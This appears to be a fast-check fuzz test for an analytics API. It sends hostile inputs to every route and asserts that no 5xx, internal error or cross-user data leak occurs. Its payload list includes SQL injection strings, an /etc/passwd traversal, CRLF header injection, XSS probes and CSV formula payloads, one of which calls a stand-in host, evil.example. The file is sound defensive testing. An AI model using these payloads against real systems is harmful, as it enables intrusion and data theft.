/**
 * Property-based fuzzing of the whole HTTP surface (fast-check): generated requests to every
 * documented route (test/support/routes.ts and the OpenAPI parameters, so routes added later
 * are fuzzed too) with hostile values in every query parameter, the site id, extra and
 * repeated parameters, malformed percent-encoding, odd methods, path suffixes and headers.
 *
 * Invariants of every response: never a 5xx; every error is problem+json with a consistent
 * status; every 400 names a parameter; no stack trace or SQL; nothing of another user's site.
 *
 * FUZZ_RUNS (default 5000, about 20 s here) sets the number of generated requests, FUZZ_SEED replays a run.
 * A failing case is written to test/fuzz-corpus/ (commit it): every case there is replayed
 * first, on every run. A corpus case may also carry an `expect` (status, text the answer must or
 * must not hold): the CSV formula and trailing-space cases of issue #12 use it. Every CSV answer
 * is checked for a cell a spreadsheet would run as a formula.
 */
import type { INestApplication } from '@nestjs/common';
import fc from 'fast-check';
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { Agent, request as httpRequest } from 'node:http';
import path from 'node:path';
import { formulaCells } from './support/csv';
import { event, pageview, purchase } from './support/hits';
import { documentedRoutes, SAMPLE_QUERIES } from './support/routes';
import { TestEnv } from './support/test-env';

const RUNS = Number(process.env.FUZZ_RUNS ?? 5000);
const SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);
const CORPUS = path.join(__dirname, 'fuzz-corpus');
/** Written into every name, path and attribute of the other user's site; must never come back. */
const MARKER = 'zqxmarker';

/**
 * A request with placeholders, so that a case stays meaningful in another database:
 * `{site}` (the fuzzer's site), `{foreign}` (the other user's site), `{key}` (the fuzzer's key),
 * `{from}` and `{to}` (three days ago and today, the range of the fuzzer's data).
 * A corpus case may also say what its answer must be (`expect`), beyond the invariants.
 */
export interface FuzzCase {
  description?: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  expect?: { status?: number; includes?: string[]; excludes?: string[] };
}

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

const HOSTILE = [
  "' OR '1'='1",
  "1' OR 1=1 -- ",
  '1; DROP TABLE hits; --',
  "'; SELECT SLEEP(5); --",
  '1 UNION SELECT key_hash FROM api_keys',
  '`sites`',
  '\\',
  '"',
  '{"$gt":""}',
  '[]',
  '{}',
  'null',
  'true',
  '[{"type":"pageview","path":"/"}]',
  '[{"type":"event","name":"x"}]',
  '[{"type":"pageview","path":"/*"},{"type":"event"}]',
  '[{"type":"x"}]',
  '[' + '{"type":"pageview","path":"/a"},'.repeat(12) + '{"type":"pageview","path":"/b"}]',
  '{"__proto__":{"polluted":1}}',
  '[{"type":"pageview","path":"/","__proto__":{"x":1}}]',
  '0',
  '-1',
  '-0',
  '1.5',
  '1e3',
  '0x10',
  '+1',
  ' 1',
  '9007199254740993',
  '99999999999999999999999999',
  '1e309',
  'NaN',
  'Infinity',
  '2026-02-30',
  '2026-13-01',
  '0000-00-00',
  '9999-12-31',
  '1970-01-01',
  '2026-1-1',
  '+002026-01-01',
  '2026-01-01T00:00:00Z',
  'UTC',
  'Etc/GMT+14',
  'Asia/Kathmandu',
  'Mars/Olympus_Mons',
  '../../../etc/passwd',
  'America/New_York\u0000',
  'previous_period',
  'year_over_year',
  'sessions',
  'conv_rate',
  'revenue',
  'channel',
  'hour',
  'week',
  'csv',
  'json',
  '%00',
  '\u0000',
  '\r\nX-Injected: 1',
  '<script>alert(1)</script>',
  '${7*7}',
  '{{7*7}}',
  'é',
  '🙂',
  '\u202e',
  '\ud800',
  'ｓｅｓｓｉｏｎｓ',
  '=HYPERLINK("http://evil.example/")',
  '@SUM(1+1)',
  '\t=1',
  'fuzz-s0 ',
  '/fuzz/pricing ',
  'fuzz_signup ',
];

/** What a response must never show: stack frames, driver errors, SQL, source paths. */
const INTERNALS = [
  /\bat \S+ \(/,
  /QueryFailedError|TypeORMError/,
  /\bER_[A-Z_]{3,}/,
  /\bSELECT\b[\s\S]*\bFROM\b/i,
  /node_modules|\.ts:\d+/,
];

/** Percent-decodes what can be decoded and leaves malformed sequences as they are. */
const decoded = (text: string): string =>
  text.replace(/(%[0-9A-Fa-f]{2})+/g, (run) => {
    try {
      return decodeURIComponent(run);
    } catch {
      return run;
    }
  });

/**
 * `body` without what case `c` itself carried: each parameter name and value of its query and
 * each header value, decoded (`+` read either way), as sent and as JSON writes it. A 400 names
 * the parameters it refuses, so a name such as `'; SELECT SLEEP(5); --` comes back beside the
 * API's own words (`from must be a date`): SQL only together, and none of it the server's.
 */
function withoutEchoes(body: string, c: FuzzCase): string {
  const query = c.path.includes('?') ? c.path.slice(c.path.indexOf('?') + 1) : '';
  const parts = [...query.split(/[&=]/), ...Object.values(c.headers)].flatMap((part) => [
    decoded(part),
    decoded(part.replace(/\+/g, ' ')),
  ]);
  const echoes = [...new Set(parts.flatMap((e) => [e, JSON.stringify(e).slice(1, -1)]))]
    .filter((e) => e.length >= 3)
    .sort((a, b) => b.length - a.length);
  return echoes.reduce((text, echo) => text.split(echo).join(''), body);
}

const MALFORMED_ENCODINGS = ['%', '%E0%A4%A', '%ZZ', '%u0041', '%%', '%C0%AF', '%ED%A0%80', '%FF'];

/** Percent-encodes a value for the request line; a lone surrogate becomes a malformed escape. */
function encode(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return value.replace(/[^\w.~-]/g, (c) => `%${(c.charCodeAt(0) & 0xff).toString(16).padStart(2, '0')}`);
  }
}

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  { weight: 1, arbitrary: fc.bigInt().map(String) },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.integer({ min: -5, max: 2000 }).map(String) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)) },
  { weight: 1, arbitrary: fc.nat({ max: 9000 }).map((n) => 'x'.repeat(n)) },
  {
    weight: 1,
    arbitrary: fc
      .date({ min: new Date('1900-01-01'), max: new Date('2200-01-01'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10)),
  },
);

interface DocumentedParameter {
  name: string;
  in: string;
  schema?: { enum?: unknown[]; type?: string; minimum?: number; maximum?: number };
}

/** A plausible value for a documented parameter: its enum, numbers around its range, a date. */
function plausible(p: DocumentedParameter): fc.Arbitrary<string> {
  const s = p.schema ?? {};
  const options: fc.Arbitrary<string>[] = [hostileString];
  if (s.enum?.length) options.push(fc.constantFrom(...s.enum.map(String)));
  if (s.type === 'integer' || s.type === 'number') {
    const lo = s.minimum ?? 0;
    const hi = s.maximum ?? 1000;
    options.push(
      fc.constantFrom(lo - 1, lo, hi, hi + 1).map(String),
      fc.integer({ min: lo, max: hi }).map(String),
    );
  }
  if (p.name === 'from' || p.name === 'to') {
    options.push(
      fc
        .date({ min: new Date('2020-01-01'), max: new Date('2030-01-01'), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10)),
    );
  }
  return fc.oneof(...options);
}

const VALID_STEPS = [
  '[{"type":"pageview","path":"/fuzz/landing"},{"type":"event","name":"fuzz_signup"}]',
  '[{"type":"pageview","path":"/fuzz/*"}]',
  '[{"type":"event","name":"fuzz_signup"},{"type":"pageview","path":"/fuzz/pricing"},{"type":"pageview","path":"/"}]',
];

/** A value the route should accept: its enum, an integer in range, a recent date, a real zone. */
function validish(p: DocumentedParameter): fc.Arbitrary<string> {
  const s = p.schema ?? {};
  if (s.enum?.length) return fc.constantFrom(...s.enum.map(String));
  if (s.type === 'integer' || s.type === 'number')
    return fc.integer({ min: s.minimum ?? 1, max: Math.min(s.maximum ?? 100, 1000) }).map(String);
  if (p.name === 'from' || p.name === 'to') {
    const day = 86_400_000;
    return fc
      .integer({ min: 0, max: 120 })
      .map((n) => new Date(Date.now() - n * day).toISOString().slice(0, 10));
  }
  if (p.name === 'timezone')
    return fc.constantFrom('UTC', 'Europe/Berlin', 'Asia/Kathmandu', 'America/New_York');
  if (p.name === 'steps') return fc.constantFrom(...VALID_STEPS);
  return hostileString;
}

interface RouteModel {
  template: string;
  sample: string;
  parameters: DocumentedParameter[];
}

/** A header value Node's client will send: no control characters, no line breaks. */
const headerValue = hostileString.map((s) => s.replace(/[^\t\x20-\x7e]/g, '?').slice(0, 300));

function caseArbitrary(routes: RouteModel[]): fc.Arbitrary<FuzzCase> {
  const siteSegment = fc.oneof(
    { weight: 6, arbitrary: fc.constant('{site}') },
    { weight: 2, arbitrary: fc.constant('{foreign}') },
    { weight: 3, arbitrary: hostileString.map(encode) },
    { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_ENCODINGS) },
  );
  const authorization = fc.oneof(
    { weight: 12, arbitrary: fc.constant('Bearer {key}') },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        '',
        'Bearer',
        'Bearer ',
        'bearer {key}',
        'Bearer  {key}',
        'Bearer {key} extra',
        'Basic {key}',
        'Bearer sk_',
        `Bearer sk_${'A'.repeat(43)}`,
        `Bearer sk_${'A'.repeat(200)}`,
        'Bearer {key}{key}',
        "Bearer ' OR 1=1 --",
      ),
    },
    { weight: 1, arbitrary: headerValue.map((s) => `Bearer ${s}`) },
  );

  return fc
    .record({
      // Half the requests are valid but for small variations, so that the reports run their queries.
      clean: fc.boolean(),
      route: fc.constantFrom(...routes),
      site: siteSegment,
      useSample: fc.boolean(),
      picks: fc.array(fc.tuple(fc.nat(), fc.boolean(), fc.nat()), { maxLength: 8 }),
      values: fc.array(hostileString, { minLength: 8, maxLength: 8 }),
      extra: fc.option(fc.tuple(hostileString, hostileString), { freq: 4 }),
      repeat: fc.boolean(),
      malformed: fc.option(fc.constantFrom(...MALFORMED_ENCODINGS), { freq: 8 }),
      bracket: fc.option(fc.constantFrom('[]', '[a]', '[0]', '[__proto__]'), { freq: 10 }),
      suffix: fc.option(fc.constantFrom('/', '//', '/..', '/%2e%2e', '/extra', '/.json', '?', '#x', ';x'), {
        freq: 10,
      }),
      method: fc.oneof(
        { weight: 20, arbitrary: fc.constant('GET') },
        { weight: 2, arbitrary: fc.constant('HEAD') },
        { weight: 1, arbitrary: fc.constantFrom('POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE') },
      ),
      authorization,
      requestId: fc.option(headerValue, { freq: 3 }),
      accept: fc.option(
        fc.oneof(
          fc.constantFrom('text/csv', 'application/xml', '*/*', 'text/html', 'application/json;q=0'),
          headerValue,
        ),
        { freq: 4 },
      ),
      forwardedFor: fc.option(headerValue, { freq: 8 }),
    })
    .chain((g) =>
      fc.tuple(
        fc.constant(g),
        fc.tuple(
          ...g.route.parameters
            .filter((p) => p.in === 'query')
            .map((p) => (g.clean ? validish(p) : plausible(p))),
          fc.constant(''),
        ),
      ),
    )
    .map(([generated, plausibleValues]) => {
      const g = generated.clean
        ? {
            ...generated,
            site: '{site}',
            picks: generated.picks.map(([i, , j]) => [i, false, j] as [number, boolean, number]),
            extra: null,
            repeat: false,
            malformed: null,
            bracket: null,
            suffix: null,
            method: generated.method === 'HEAD' ? 'HEAD' : 'GET',
            authorization: 'Bearer {key}',
          }
        : generated;
      const query = g.route.parameters.filter((p) => p.in === 'query');
      const pairs: Array<[string, string]> = g.useSample
        ? g.route.sample
            .split('&')
            .filter(Boolean)
            .map((kv) => kv.split('=') as [string, string])
        : [];
      for (const [i, hostile, j] of g.picks) {
        if (query.length === 0) break;
        const p = query[i % query.length];
        const value = hostile ? g.values[j % g.values.length] : plausibleValues[i % query.length];
        const at = pairs.findIndex(([k]) => k === p.name);
        const encoded: [string, string] = [p.name, encode(value)];
        if (at >= 0) pairs[at] = encoded;
        else pairs.push(encoded);
      }
      if (g.extra) pairs.push([encode(g.extra[0]), encode(g.extra[1])]);
      if (g.repeat && pairs.length > 0) pairs.push(pairs[0]);
      if (g.bracket && pairs.length > 0)
        pairs[0] = [pairs[0][0] + encodeURIComponent(g.bracket), pairs[0][1]];
      if (g.malformed && pairs.length > 0) pairs[pairs.length - 1][1] += g.malformed;

      let pathPart = g.route.template.replace('{id}', g.site);
      if (g.suffix) pathPart += g.suffix;
      const queryString = pairs.map(([k, v]) => `${k}=${v}`).join('&');
      const headers: Record<string, string> = {};
      if (g.authorization) headers.Authorization = g.authorization;
      if (g.requestId) headers['X-Request-Id'] = g.requestId;
      if (g.accept) headers.Accept = g.accept;
      if (g.forwardedFor) headers['X-Forwarded-For'] = g.forwardedFor;
      return { method: g.method, path: queryString ? `${pathPart}?${queryString}` : pathPart, headers };
    });
}

describe('Fuzzing every documented route (fast-check)', () => {
  let env: TestEnv;
  let app: INestApplication;
  let port: number;
  let routes: RouteModel[];
  let placeholders: Record<string, string>;
  const agent = new Agent({ keepAlive: true, maxSockets: 8 });
  let sent = 0;
  const statuses: Record<number, number> = {};

  beforeAll(async () => {
    env = await TestEnv.create();
    const fuzzer = await env.user();
    const victim = await env.user(`${MARKER}@test.example`);
    const site = await env.site({ name: 'Fuzz shop', members: [fuzzer] });
    const foreign = await env.site({ name: `${MARKER} site`, members: [victim] });
    const key = (await env.key(fuzzer)).key;
    await env.key(victim);

    const now = Date.now();
    const at = (minutesAgo: number) => new Date(now - minutesAgo * 60_000).toISOString();
    const hits: object[] = [];
    for (const [siteId, prefix] of [
      [site, 'fuzz'],
      [foreign, MARKER],
    ] as const) {
      await env.registerEvent(siteId, `${prefix}_signup`, `${prefix} description`);
      await env.goal(siteId, `${prefix} goal`, 'path', `/${prefix}/*`);
      for (let s = 0; s < 6; s++) {
        const session = `${prefix}-s${s}`;
        const attrs = {
          channel: `${prefix}-channel`,
          source: `${prefix}.example`,
          country: `${prefix}land`,
          device: 'desktop',
          browser: `${prefix}-browser`,
        };
        hits.push(
          pageview(siteId, session, at(s * 600 + 3), `/${prefix}/landing`, {
            ...attrs,
            time_on_page_seconds: 12,
            scroll_depth: 80,
          }),
        );
        hits.push(pageview(siteId, session, at(s * 600 + 2), `/${prefix}/pricing`));
        hits.push(
          event(siteId, session, at(s * 600 + 1), `${prefix}_signup`, { path: `/${prefix}/pricing` }),
        );
        hits.push(
          purchase(siteId, session, at(s * 600), `${prefix}-order-${s}`, '19.90', {
            items: [{ sku: `${prefix}-sku`, name: `${prefix} product`, quantity: 1, price: '19.90' }],
          }),
        );
      }
    }
    // Values a spreadsheet would run as formulas (every CSV answer is checked for them), and
    // ids, paths and names that differ from the ones above only by a trailing space: a session
    // of their own, never counted with `fuzz-s0`, `/fuzz/pricing` or `fuzz_signup`.
    hits.push(
      pageview(site, 'fuzz-s0 ', at(5), '/fuzz/pricing ', {
        id: 'fuzz-pv-0 ',
        visitor_id: 'v-fuzz-trailing',
        source: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        channel: '+fuzz',
        country: '-fuzz',
        device: '@fuzz',
        browser: '\tfuzz',
      }),
      pageview(site, 'fuzz-s0 ', at(4), '/fuzz/pricing ', { id: 'fuzz-pv-0', visitor_id: 'v-fuzz-trailing' }),
      event(site, 'fuzz-s0 ', at(3), 'fuzz_signup ', { visitor_id: 'v-fuzz-trailing' }),
      purchase(site, 'fuzz-s0 ', at(2), 'fuzz-order-0 ', '1.00', {
        visitor_id: 'v-fuzz-trailing',
        items: [{ sku: '=fuzz-sku', name: '@fuzz product', quantity: 1, price: '1.00' }],
      }),
    );
    const imported = await env.importHits(hits);
    expect(imported.rejections).toEqual([]);
    await env.aggregate();

    app = await env.startApp({ RATE_LIMIT_PER_MINUTE: '100000000' });
    const server = await app.listen(0, '127.0.0.1');
    port = (server.address() as { port: number }).port;
    const day = (offset: number) => new Date(now - offset * 86_400_000).toISOString().slice(0, 10);
    placeholders = {
      '{site}': String(site),
      '{foreign}': String(foreign),
      '{key}': key,
      '{from}': day(3),
      '{to}': day(0),
    };

    const document = (await (await fetch(`http://127.0.0.1:${port}/api/docs-json`)).json()) as {
      paths: Record<string, { get: { parameters?: DocumentedParameter[] } }>;
    };
    routes = documentedRoutes(app).map((r) => ({
      template: r.template,
      sample: SAMPLE_QUERIES[r.template] ?? '',
      parameters: document.paths[r.template]?.get.parameters ?? [],
    }));
  });

  afterAll(async () => {
    agent.destroy();
    await env.close();
    process.stdout.write(`fuzz: ${sent} requests, by status ${JSON.stringify(statuses)}\n`);
  });

  const materialize = (text: string) =>
    text.replace(/\{site\}|\{foreign\}|\{key\}|\{from\}|\{to\}/g, (p) => placeholders[p]);

  function send(c: FuzzCase): Promise<Answer> {
    sent++;
    const headers: Record<string, string> = {};
    for (const [k, v] of Object.entries(c.headers)) headers[k] = materialize(v);
    return new Promise((resolve, reject) => {
      const req = httpRequest(
        { host: '127.0.0.1', port, method: c.method, path: materialize(c.path), headers, agent },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (d: Buffer) => chunks.push(d));
          res.on('end', () => {
            const status = res.statusCode ?? 0;
            statuses[status] = (statuses[status] ?? 0) + 1;
            resolve({ status, headers: res.headers, body: Buffer.concat(chunks).toString() });
          });
        },
      );
      req.setTimeout(15_000, () => req.destroy(new Error('no answer within 15 s')));
      req.on('error', reject);
      req.end();
    });
  }

  /** Every invariant of one answer; throws describing the first one broken. */
  function check(c: FuzzCase, a: Answer): void {
    const fail = (why: string) => {
      throw new Error(`${why}\n${c.method} ${c.path}\n→ ${a.status} ${a.body.slice(0, 500)}`);
    };
    if (a.status >= 500) fail('a 5xx');
    const type = String(a.headers['content-type'] ?? '');
    if (c.expect?.status !== undefined && a.status !== c.expect.status)
      fail(`not the expected ${c.expect.status}`);
    for (const text of c.expect?.includes ?? [])
      if (!a.body.includes(materialize(text))) fail(`no ${JSON.stringify(text)} in the answer`);
    for (const text of c.expect?.excludes ?? [])
      if (a.body.includes(materialize(text))) fail(`${JSON.stringify(text)} in the answer`);
    if (type.startsWith('text/csv') && formulaCells(a.body).length > 0)
      fail(`a CSV cell a spreadsheet would run as a formula: ${JSON.stringify(formulaCells(a.body)[0])}`);
    // What the request itself carried may come back (a parameter's name in a 400): not a leak.
    const sent = decoded(JSON.stringify(c));
    const leaks = (text: string) => text.toLowerCase().includes(MARKER);
    if (!leaks(sent) && (leaks(a.body) || leaks(JSON.stringify(a.headers))))
      fail("another user's data in the response");
    const own = withoutEchoes(a.body, c);
    for (const internal of INTERNALS)
      if (internal.test(own) && !internal.test(sent)) fail('a stack trace or SQL in the response');
    if (a.status < 400) return;
    if (!type.startsWith('application/problem+json')) fail('an error without application/problem+json');
    if (c.method === 'HEAD') return;
    let body: { type?: unknown; title?: unknown; status?: unknown; detail?: unknown; errors?: unknown };
    try {
      body = JSON.parse(a.body) as typeof body;
    } catch {
      return fail('an error body that is not JSON');
    }
    if (typeof body.type !== 'string' || typeof body.title !== 'string' || typeof body.detail !== 'string')
      fail('a problem body without type, title and detail');
    if (body.status !== a.status) fail('a problem body whose status differs from the response');
    if (a.status === 400) {
      const errors = body.errors as Array<{ parameter?: unknown; message?: unknown }> | undefined;
      if (!Array.isArray(errors) || errors.length === 0) fail('a 400 without errors[]');
      for (const e of errors!)
        if (typeof e.parameter !== 'string' || e.parameter === '' || typeof e.message !== 'string')
          fail('a 400 error that names no parameter');
    }
    if (a.status === 401 && a.headers['www-authenticate'] !== 'Bearer')
      fail('a 401 without WWW-Authenticate');
    if (a.status === 405 && a.headers.allow !== 'GET, HEAD') fail('a 405 without Allow: GET, HEAD');
  }

  function saveToCorpus(c: FuzzCase, error: unknown): string {
    mkdirSync(CORPUS, { recursive: true });
    const id = createHash('sha256').update(JSON.stringify(c)).digest('hex').slice(0, 12);
    const file = path.join(CORPUS, `found-${id}.json`);
    const description = String(error instanceof Error ? error.message : error).split('\n')[0];
    writeFileSync(file, `${JSON.stringify({ description, ...c }, null, 2)}\n`);
    return file;
  }

  it('replays the regression corpus first (every case that once failed)', async () => {
    const files = readdirSync(CORPUS).filter((f) => f.endsWith('.json'));
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) {
      const c = JSON.parse(readFileSync(path.join(CORPUS, file), 'utf8')) as FuzzCase;
      try {
        check(c, await send(c));
      } catch (e) {
        throw new Error(`${file}: ${(e as Error).message}`);
      }
    }
  });

  it(`holds every invariant over ${RUNS} generated requests`, async () => {
    const property = fc.asyncProperty(caseArbitrary(routes), async (c) => check(c, await send(c)));
    const details = await fc.check(property, { numRuns: RUNS, seed: SEED, endOnFailure: false });
    if (details.failed) {
      const c = details.counterexample?.[0];
      const file = c ? saveToCorpus(c, details.errorInstance) : '(none)';
      throw new Error(
        `fuzz failure (seed ${details.seed}, saved to ${path.relative(process.cwd(), file)}):\n` +
          `${details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance)}`,
      );
    }
    // A guard against a hang, not a speed target: on a host busy with other work the 5000
    // requests took longer than 120 s (3,998 had been sent beside a 10M import).
  }, 600_000);
});
